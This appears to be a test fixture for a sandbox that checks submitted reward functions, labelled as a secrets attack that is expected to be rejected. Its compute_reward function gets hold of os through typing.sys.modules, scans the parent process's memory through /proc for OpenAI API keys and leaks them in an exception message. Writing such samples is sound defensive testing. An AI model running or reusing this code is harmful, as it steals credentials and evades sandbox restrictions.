"""Scan the parent's memory through /proc/<ppid>/mem for an API key and leak it."""
# class: secrets
# expect: rejected
import typing


def compute_reward(obs, action, next_obs, info):
    os = typing.sys.modules["os"]
    ppid = os.getppid()
    found = []
    maps = os.open(f"/proc/{ppid}/maps", os.O_RDONLY)
    mem = os.open(f"/proc/{ppid}/mem", os.O_RDONLY)
    text = b""
    while chunk := os.read(maps, 1 << 16):
        text += chunk
    for line in text.decode().splitlines():
        lo, hi = (int(x, 16) for x in line.split()[0].split("-"))
        try:
            region = os.pread(mem, min(hi - lo, 1 << 24), lo)
        except Exception:
            continue
        at = region.find(b"OPENAI_API_KEY=sk")
        while at >= 0:
            found.append(region[at: at + 60].decode(errors="replace"))
            at = region.find(b"OPENAI_API_KEY=sk", at + 1)
    raise ValueError(" | ".join(found) or "nothing found")
